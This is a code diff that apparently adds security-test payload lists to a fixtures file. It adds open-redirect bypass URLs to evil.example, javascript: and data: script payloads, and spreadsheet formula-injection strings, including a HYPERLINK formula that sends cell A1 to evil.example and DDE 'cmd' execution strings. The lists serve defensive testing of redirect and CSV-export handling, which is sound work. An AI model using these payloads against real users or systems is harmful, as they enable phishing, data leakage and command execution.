@@ -112,3 +112,28 @@ SQL_INJECTION: list[str] = [
     "reporter__password__startswith",
     "-reporter__password",
 ]
+
+OPEN_REDIRECTS: list[str] = [
+    "https://evil.example/",
+    "//evil.example/",
+    "///evil.example/",
+    "/\\evil.example/",
+    "\\\\evil.example",
+    "https:evil.example",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "http://testserver@evil.example/",
+    " https://evil.example/",
+    "%2F%2Fevil.example",
+    "/%09/evil.example",
+    "https://evil.example%23.testserver/",
+]
+
+# Spreadsheet formula injection, for the CSV export.
+CSV_FORMULAS: list[str] = [
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+]
